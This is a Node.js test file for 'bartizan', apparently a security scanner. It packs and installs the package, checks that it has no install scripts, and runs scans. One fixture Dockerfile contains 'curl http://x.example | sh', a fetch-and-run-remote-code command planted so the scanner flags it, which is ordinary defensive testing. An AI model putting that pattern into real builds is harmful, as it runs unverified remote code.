import assert from 'node:assert/strict'
import { execFileSync, spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { fileURLToPath } from 'node:url'

const root = fileURLToPath(new URL('../../../', import.meta.url))
const base = mkdtempSync(join(tmpdir(), 'bartizan-package-'))
const project = join(base, 'project')
const environment = {
  ...process.env,
  HOME: base,
  XDG_CACHE_HOME: join(base, 'cache'),
  npm_config_cache: join(base, 'npm'),
  CI: 'true',
  NO_COLOR: '1',
}
let archive = ''

before(() => {
  execFileSync(process.execPath, [join(root, 'tools/src/bundle/main.ts')], { cwd: root })
  const packed = execFileSync('npm', ['pack', '--silent', '--pack-destination', base, join(root, 'dist/package')], {
    cwd: base,
    env: environment,
    encoding: 'utf8',
  })
  archive = join(base, packed.trim().split('\n').at(-1) ?? '')
  mkdirSync(project)
  writeFileSync(join(project, 'package.json'), '{ "name": "project", "private": true }\n')
  execFileSync('npm', ['install', '--offline', '--no-audit', '--no-fund', archive], {
    cwd: project,
    env: environment,
    stdio: 'ignore',
  })
})
after(() => rmSync(base, { recursive: true, force: true }))

function bartizan(...args: readonly string[]): { code: number | null; out: string; notes: string } {
  const executable = join(project, 'node_modules/bartizan/bin/bartizan.mjs')
  const ran = spawnSync(process.execPath, [executable, ...args], { cwd: project, env: environment, encoding: 'utf8' })
  return { code: ran.status, out: ran.stdout, notes: ran.stderr }
}

test('the package has no runtime dependencies, no install scripts, and is small', () => {
  const manifest = JSON.parse(readFileSync(join(project, 'node_modules/bartizan/package.json'), 'utf8')) as Record<
    string,
    unknown
  >
  assert.equal(manifest['dependencies'], undefined)
  assert.equal(manifest['scripts'], undefined)
  assert.ok(statSync(archive).size < 5_000_000, `${statSync(archive).size} bytes`)
  for (const file of [
    'LICENSE',
    'README.md',
    'THIRD-PARTY-NOTICES.md',
    'schema/config.schema.json',
    'schema/scan-result.schema.json',
  ]) {
    assert.ok(existsSync(join(project, 'node_modules/bartizan', file)), file)
  }
})

test('it scans from an empty folder, with one worker and with two', () => {
  assert.match(bartizan('--version').out, /^bartizan \d/)
  writeFileSync(join(project, 'Dockerfile'), 'FROM node\nRUN curl http://x.example | sh\n')
  const outputs = ['1', '2'].map((workers) => bartizan('scan', '--workers', workers, '--no-cache', '-f', 'json'))
  for (const { code, out, notes } of outputs) {
    assert.equal(code, 1, notes)
    assert.match(out, /containers\//)
  }
  assert.equal(outputs[0]?.out, outputs[1]?.out)
  const page = bartizan('scan', '-f', 'html')
  assert.match(page.out, /<!doctype html>/i)
})

test('it is a library too', () => {
  const code =
    "import { loadCatalogue } from 'bartizan'; process.stdout.write(String((await loadCatalogue()).size > 100))"
  const ran = spawnSync(process.execPath, ['--input-type=module', '-e', code], {
    cwd: project,
    env: environment,
    encoding: 'utf8',
  })
  assert.equal(ran.stdout, 'true', ran.stderr)
})
